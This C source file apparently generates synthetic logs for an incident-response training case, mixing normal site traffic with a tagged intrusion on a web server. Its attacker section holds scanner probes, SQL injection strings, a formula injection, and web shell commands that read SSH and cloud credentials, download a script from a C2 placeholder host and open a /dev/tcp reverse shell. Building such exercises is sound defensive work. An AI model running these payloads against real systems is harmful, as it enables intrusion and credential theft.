/* web01: nginx in front of the public site and the careers form that lets a script in. */
#include "tests/maker/case.h"

static const char *const browser[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3 "
	"Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Mobile Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 Safari/537.36 "
	"Edg/132.0.0.0",
};
static const char *const page[] = {
	"/", "/products/", "/products/fm-200", "/products/fm-350-dn50", "/products/ultrasonic", "/support/",
		"/support/downloads",
	"/support/manuals/FM200-en.pdf", "/support/manuals/FM350-en.pdf", "/company/", "/company/contact", "/careers/",
	"/careers/field-engineer",
	"/news/", "/news/2026/02/new-calibration-rig", "/catalog/search?q=flange+dn50", "/catalog/search?q=gasket",
	"/catalog/search?q=fm-350",
	"/catalog/item?id=1182", "/catalog/item?id=2204", "/catalog/item?id=317", "/partners/login", "/partners/",
	"/en/legal/privacy",
};
static const char *const asset[] = {
	"/static/css/site.8c1f.css", "/static/js/app.41ab.js", "/static/img/logo.svg", "/static/img/fm200-hero.webp",
		"/favicon.ico",
	"/static/fonts/inter-var.woff2", "/static/js/vendor.77e0.js", "/static/img/rig.webp",
};
static const char *const found_from[] = {"-", "-", "https://www.example.com/search?q=flow+meter",
	"https://forum.example.org/t/4411", "-"};

void
web_hit(struct company *c, int64_t at, const char *ip, const char *request, int status, int bytes, const char *referer,
	const char *agent)
{
	struct buf *b = log_add(&c->log[ACCESS], at);

	put_f(b, "%s - - [", ip);
	when_clf(b, at);
	put_f(b, "] \"%s\" %d %d \"%s\" \"%s\"", request, status, bytes, referer, agent);
	log_end(&c->log[ACCESS]);
}

/* One visit over TLS: a page, its files, some more pages. */
static void
visit(struct company *c)
{
	struct rng *r = &c->r;
	int64_t at = any_time(r), first = at;
	const char *agent = PICK(r, browser), *last = NULL;
	char ip[16];
	struct flow f = {ip, WEB01, "tcp", "ssl", 30000 + (int)rng_below(r, 30000), 443, 0, 900, 0};

	strncpy(ip, outside(r), sizeof ip - 1)[sizeof ip - 1] = '\0';
	for (uint32_t pages = 1 + rng_below(r, 4); pages > 0; pages--) {
		const char *p = PICK(r, page), *here = text_of("https://www." DOMAIN "%s", p);
		int bytes = 4000 + (int)rng_below(r, 26000);

		web_hit(c, at, ip, text_of("GET %s HTTP/2.0", p), 200, bytes, last ? text_of("https://www." DOMAIN "%s", last)
			: PICK(r, found_from), agent);
		f.received += bytes;
		for (uint32_t k = rng_below(r, 4); k > 0; k--) {
			bool cached = rng_chance(r, 350);
			int n = cached ? 0 : 900 + (int)rng_below(r, 90000);

			web_hit(c, at + rng_span(r, 60000, 900000), ip, text_of("GET %s HTTP/2.0", PICK(r, asset)), cached
				? 304 : 200, n, here, agent);
			f.received += n;
		}
		f.sent += 700;
		last = p;
		at += rng_span(r, 4 * SECOND, 95 * SECOND);
	}
	f.length = at - first;
	zeek_conn(c, first - 80000, &f);
	zeek_ssl(c, first - 50000, &f, "www." DOMAIN);
}

/* A hit on port 80, where the sensors read along. */
static void
plain_hit(struct company *c, int64_t at, const char *ip, const char *method, const char *uri, int status, int bytes,
	const char *referer,
	const char *agent)
{
	struct flow f = {ip, WEB01, "tcp", "http", 32768 + (int)rng_below(&c->r, 28000), 80, rng_span(&c->r, 20000, 400000),
		420, bytes + 240};

	web_hit(c, at, ip, text_of("%s %s HTTP/1.1", method, uri), status, bytes, referer, agent);
	zeek_http(c, at, &f, method, uri, status, agent);
	eve_http(c, at, &f, "careers." DOMAIN, method, uri, agent, status);
}

/* What any address on the Internet gets: crawlers, and those who look for somebody else's holes. */
static void
stray(struct company *c)
{
	static const char *const robot[] = {
		"Mozilla/5.0 (compatible; ExampleBot/2.1; +http://bot.example.com/about)",
			"Mozilla/5.0 (compatible; CensusProbe/1.3; +https://census.example.org/)",
		"Mozilla/5.0 (compatible; SEOIndexer/7; +https://seo.example.net/bot)",
	};
	static const char *const knock[] = {"/wp-login.php", "/robots.txt", "/.well-known/security.txt", "/admin/",
		"/sitemap.xml", "/index.html",
		"/favicon.ico", "/phpmyadmin/", "/owa/"};
	struct rng *r = &c->r;
	int64_t at = any_time(r);
	const char *agent = PICK(r, robot), *uri = PICK(r, knock);
	char ip[16];

	strncpy(ip, outside(r), sizeof ip - 1)[sizeof ip - 1] = '\0';
	if (rng_chance(r, 500))
		plain_hit(c, at, ip, "GET", uri, 301, 169, "-", agent);
	web_hit(c, at + 300000, ip, text_of("GET %s HTTP/1.1", uri), strstr(uri, "robots") || strstr(uri, "favicon") ? 200
		: 404, 548, "-", agent);
}

void
noise_web(struct company *c)
{
	static const char *const job[] = {"/careers/", "/careers/apply?job=field-engineer", "/careers/static/form.css",
		"/careers/apply?job=firmware"};

	for (unsigned i = 0; i < 1300 * c->scale; i++)
		visit(c);
	for (unsigned i = 0; i < 420 * c->scale; i++)
		stray(c);
	for (unsigned i = 0; i < 260 * c->scale; i++)
		plain_hit(c, office_time(&c->r), outside(&c->r), "GET", PICK(&c->r, job), 200, 2100 + (int)rng_below(&c->r,
		5000), "-",
			PICK(&c->r, browser));
	for (unsigned i = 0; i < 9 * c->scale; i++)
		plain_hit(c, office_time(&c->r), outside(&c->r), "POST", "/careers/upload", 200, 611, "http://careers." DOMAIN
		"/careers/apply",
			PICK(&c->r, browser));
	for (int64_t at = CASE_FROM; at < CASE_TO; at += 2 * MINUTE)
		web_hit(c, at + rng_span(&c->r, 0, 800000), "10.20.0.30", "GET /healthz HTTP/1.1", 200, 2, "-", "monitor/3.2");
}

/* ---- the intruders ---- */

static void
scan(struct company *c)
{
	static const char *const hole[] = {
		"/.git/config", "/.env", "/backup.zip", "/phpinfo.php", "/server-status", "/cgi-bin/test.cgi",
			"/wp-config.php.bak", "/admin/config.php",
		"/.aws/credentials", "/actuator/env", "/solr/admin/", "/console/", "/manager/html", "/../../../../etc/passwd",
		"/.svn/entries",
		"/cgi-bin/.%2e/.%2e/.%2e/etc/passwd", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/api/v1/users",
		"/db.sql", "/id_rsa",
	};
	int64_t at = AT(10, 8, 14, 5);

	for (unsigned i = 0; i < 50; i++, at += rng_span(&c->r, 700000, 5 * SECOND)) {
		const char *uri = i < 20 ? hole[i] : text_of("/%s%02u.%s", i % 3 ? "old" : "test", i, i % 2 ? "php" : "bak");

		blame(c, "T1595.002", i == 31 ? "scan; user agent carries a script" : "scan of web01");
		plain_hit(c, at, ATTACKER, "GET", uri, strstr(uri, "..") || strstr(uri, "%2e") ? 400 : 404, 548, "-",
			i == 31 ? "<script>alert(1)</script>" : "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)");
	}
}

static void
inject(struct company *c)
{
	static const char *const sql[] = {
		"/catalog/item?id=317%27", "/catalog/item?id=317%20AND%201=1", "/catalog/item?id=317%20AND%201=2",
		"/catalog/item?id=317%27%20OR%20%271%27=%271", "/catalog/item?id=-1%20UNION%20SELECT%20NULL,NULL,NULL--",
		"/catalog/item?id=-1%20UNION%20SELECT%20table_name,NULL,NULL%20FROM%20information_schema.tables--",
		"/catalog/item?id=-1%20UNION%20ALL%20SELECT%20user,version(),current_database()--",
		"/catalog/item?id=317;SELECT%20pg_sleep(5)--",
		"/catalog/search?q=%27%20UNION%20SELECT%20username,password%20FROM%20users--",
		"/catalog/item?id=317%20AND%20SLEEP(5)",
	};
	int64_t at = AT(10, 8, 47, 12);

	for (unsigned i = 0; i < sizeof sql / sizeof *sql; i++, at += rng_span(&c->r, 9 * SECOND, 40 * SECOND)) {
		blame(c, "T1190", i == 7 ? "SQL injection; referer carries a spreadsheet formula" : "SQL injection");
		plain_hit(c, at, ATTACKER, "GET", sql[i], i == 0 || i == 5 ? 500 : 200, 2411, i == 7 ? "=cmd|' /C calc'!A0" :
			"-",
			"sqlmap/1.8.11#stable (https://sqlmap.org)");
	}
}

static void
shell(struct company *c, int64_t at, const char *uri, int bytes, const char *what)
{
	blame(c, "T1505.003", what);
	plain_hit(c, at, ATTACKER, "GET", uri, 200, bytes, "-", "python-requests/2.32.3");
}

void
story_web(struct company *c)
{
	scan(c);
	inject(c);
	blame(c, "T1190", "the form is looked at");
	plain_hit(c, AT(10, 9, 25, 48), ATTACKER, "GET", "/careers/apply?job=firmware", 200, 5120, "-",
		"python-requests/2.32.3");
	blame(c, "T1505.003", "web shell uploaded as a CV");
	plain_hit(c, AT(10, 9, 26, 31), ATTACKER, "POST", "/careers/upload", 200, 611, "-", "python-requests/2.32.3");
	/* The name shows as cv-php.pdf to who trusts U+202E. */
	blame(c, "T1036.002", "file name with a right-to-left override");
	plain_hit(c, AT(10, 9, 26, 40), ATTACKER, "GET", "/careers/uploads/cv-\xe2\x80\xae" "fdp.php", 404, 548, "-",
		"python-requests/2.32.3");
	shell(c, AT(10, 9, 26, 58), "/careers/uploads/cv-2231.php?cmd=id", 54, "web shell: id");
	shell(c, AT(10, 9, 27, 13), "/careers/uploads/cv-2231.php?cmd=whoami", 9, "web shell: whoami");
	shell(c, AT(10, 9, 27, 40), "/careers/uploads/cv-2231.php?cmd=uname%20-a", 118, "web shell: uname");
	shell(c, AT(10, 9, 28, 22), "/careers/uploads/cv-2231.php?cmd=cat%20/etc/passwd", 1844, "web shell: /etc/passwd");
	shell(c, AT(10, 9, 29, 51), "/careers/uploads/cv-2231.php?cmd=wget%20http://" C2 "/l.sh%20-O%20/tmp/.l", 0,
		"web shell: fetches a tool");
	shell(c, AT(10, 9, 30, 5), "/careers/uploads/cv-2231.php?cmd=bash%20/tmp/.l", 16, "web shell: runs the tool");
	shell(c, AT(10, 9, 33, 27), "/careers/uploads/cv-2231.php?cmd=cat%20/srv/deploy/.ssh/id_ed25519", 411,
		"web shell: reads the deploy key");
	shell(c, AT(10, 9, 34, 44), "/careers/uploads/cv-2231.php?cmd=cat%20/srv/deploy/.aws/credentials", 116,
		"web shell: reads the cloud key");
	shell(c, AT(10, 9, 41, 2), "/careers/uploads/cv-2231.php?cmd=bash%20-c%20%27bash%20-i%20>%26%20/dev/tcp/" C2
		"/443%200>%261%27", 0,
		"web shell: reverse shell");
}
